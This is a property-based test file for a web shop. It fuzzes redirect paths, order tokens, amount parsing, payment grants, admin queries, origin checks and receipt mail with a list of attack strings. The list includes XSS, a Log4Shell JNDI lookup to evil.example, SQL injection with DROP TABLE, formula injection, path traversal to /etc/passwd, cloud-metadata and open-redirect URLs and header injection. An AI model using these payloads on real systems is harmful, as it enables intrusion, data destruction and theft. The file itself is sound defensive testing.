// What addresses, forms and headers may bring, thrown at everything that reads them: thousands of spellings, none of which gets through.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { test } from 'node:test';
import fc from 'fast-check';
import { readGrant } from '#lib/allowances/grant.ts';
import { usualQuickPay } from '#lib/allowances/quick-pay-settings.ts';
import { deriveKeys } from '#lib/keys.ts';
import { parseAmount } from '#lib/money/parse-amount.ts';
import { orderToken, readOrderToken } from '#lib/orders/order-link.ts';
import { receiptMail } from '#lib/outbox/receipt.ts';
import { safeReturnPath } from '../_auth/return-path.ts';
import { ordersPath, readOrdersQuery } from '../(admin)/admin/orders/orders-query.ts';
import { refusalOf } from './refuse-request.ts';

const known = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  'javascript:alert(1)',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's is what is tried
  '${jndi:ldap://evil.example/a}',
  '=cmd|calc!A1',
  '@SUM(1)',
  '__proto__',
  'constructor[prototype]',
  "' OR 1=1 --",
  "'; DROP TABLE shop_order; --",
  '%',
  '_',
  '\\',
  '../../etc/passwd',
  '%2e%2e%2f',
  '//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  'https://evil.example',
  'http://169.254.169.254/',
  'file:///etc/passwd',
  '\r\nSet-Cookie: a=b',
  '\0',
  '\u202e',
  '\ufeff',
  '\ud800',
  'ﷺ'.repeat(20),
  '1e309',
  '-0',
  'NaN',
  '0x10',
  '٣',
  '1,2,3,4',
  '9'.repeat(60),
  `${'a'.repeat(40)}!`,
  '('.repeat(500),
  ' '.repeat(5_000),
];
const hostile = fc.oneof(
  fc.constantFrom(...known),
  fc.tuple(fc.constantFrom(...known), fc.constantFrom(...known)).map(([one, other]) => one + other),
  fc.tuple(fc.constantFrom('/', '//', '/.', 'ord_', '€', '€1', ' '), fc.constantFrom(...known)).map(([start, rest]) => start + rest),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: fc.constantFrom(...'./\\:@?#%0129,- \t\n<>"\'&;='), maxLength: 24 }),
);
const tries = { numRuns: 500, seed: 20_261_128 };

test('where to go after signing in stays in this shop', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const path = safeReturnPath(text);
      assert.equal(new URL(path, 'https://shop.example').origin, 'https://shop.example');
      assert.match(path, /^\/(?![/\\])/);
      assert.doesNotMatch(path, /[\r\n\0]/);
    }),
    tries,
  );
});

test("an order's link is nobody's guess", () => {
  const keys = deriveKeys(randomBytes(32).toString('base64url'), null, 'local');
  const link = orderToken(keys, 'ord_01m8g0vg85eg19c4ynp2x01ykq');
  assert.equal(readOrderToken(keys, link), 'ord_01m8g0vg85eg19c4ynp2x01ykq');
  // The last letter holds two bits that mean nothing: four spellings of the same bytes, one of which is the link.
  const spellings = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'].map((letter) => link.slice(0, -1) + letter);
  assert.deepEqual(
    spellings.filter((spelling) => readOrderToken(keys, spelling) !== null),
    [link],
  );
  fc.assert(
    fc.property(hostile, fc.nat(link.length), (text, at) => {
      assert.equal(readOrderToken(keys, text), null);
      if (text !== '') assert.equal(readOrderToken(keys, link.slice(0, at) + text + link.slice(at)), null);
    }),
    tries,
  );
});

test('an amount is what a person means, or refused: never less than nothing, never a guess', () => {
  fc.assert(
    fc.property(hostile, fc.constantFrom('EUR', 'JPY', 'KWD'), (text, currency) => {
      const parsed = parseAmount(text, currency);
      if (parsed.kind === 'invalid') return;
      assert.ok(parsed.money.minor >= 0n && parsed.money.currency === currency);
      assert.match(text, /^[\s\u00a0\u202f'’\p{Sc}\dA-Za-z.,]+$/u);
    }),
    tries,
  );
});

test('a choice on the pay page grants what is offered and not a cent more', () => {
  const total = { minor: 1840n, currency: 'EUR' };
  const now = new Date('2026-11-28T03:00:00Z');
  const amount = fc.oneof(hostile, { weight: 4, arbitrary: fc.constantFrom('60', '500', '500.01', '0', '0.004', '-5', '1e2', '5,00') });
  const day = fc.oneof(hostile, {
    weight: 4,
    arbitrary: fc.constantFrom('2026-11-28', '2026-11-27', '2026-02-30', '2027-11-28', '2027-11-29', '9999-12-31'),
  });
  fc.assert(
    fc.property(fc.constantFrom('own', 'own', 'preset-0', 'preset-9'), amount, amount, day, (quickPay, weekly, ceiling, until) => {
      const read = readGrant(usualQuickPay, { quickPay, weekly, ceiling, until }, total, now, 'Europe/Vilnius');
      if (read.kind !== 'grant') return;
      assert.ok(read.grant.weekly.minor > 0n && read.grant.weekly.minor <= usualQuickPay.highestWeekly.minor);
      assert.ok(read.grant.ceiling.minor > 0n && read.grant.ceiling.minor <= read.grant.weekly.minor);
      assert.ok(read.grant.until > now);
    }),
    tries,
  );
});

test("the orders list's address is read into filters and written back as the same list", () => {
  fc.assert(
    fc.property(fc.record({ status: hostile, text: hostile, after: hostile, attention: hostile }), (raw) => {
      const query = readOrdersQuery(raw);
      const written = new URL(ordersPath(query), 'https://shop.example');
      assert.equal(written.pathname, '/admin/orders');
      assert.equal(written.origin, 'https://shop.example');
      assert.ok((query.text?.length ?? 0) <= 120);
      if (query.text !== undefined) assert.equal(written.searchParams.get('text'), query.text.toWellFormed());
    }),
    tries,
  );
});

test('a form from elsewhere is refused, however its origin is spelt', () => {
  const shopUrl = 'https://shop.example';
  fc.assert(
    fc.property(hostile, (origin) => {
      const headers = { get: (name: string) => ({ origin, host: 'shop.example' })[name] ?? null };
      assert.equal(refusalOf({ method: 'POST', headers }, shopUrl)?.status, 403, JSON.stringify(origin));
    }),
    tries,
  );
});

test('no title or name becomes markup in a receipt', () => {
  fc.assert(
    fc.property(hostile, hostile, (title, shopName) => {
      const total = { minor: 1840n, currency: 'EUR' };
      const mail = receiptMail({
        ...{ shopName, shopUrl: 'https://shop.example', timeZone: 'Europe/Vilnius', orderNumber: 1, total },
        ...{ orderUrl: 'https://shop.example/orders/x', paidAt: new Date('2026-11-28T03:00:00Z'), givenBack: false },
        lines: [{ title, option: null, quantity: 1, lineTotal: total }],
      });
      const tags = [...mail.html.matchAll(/<\s*\/?\s*([a-z!]+)/gi)].map(([, name]) => name?.toLowerCase());
      const ours = ['!doctype', 'html', 'head', 'meta', 'title', 'body', 'div', 'p', 'h', 'table', 'tr', 'td', 'a'];
      assert.deepEqual(
        tags.filter((name) => !ours.includes(name ?? '')),
        [],
      );
    }),
    tries,
  );
});
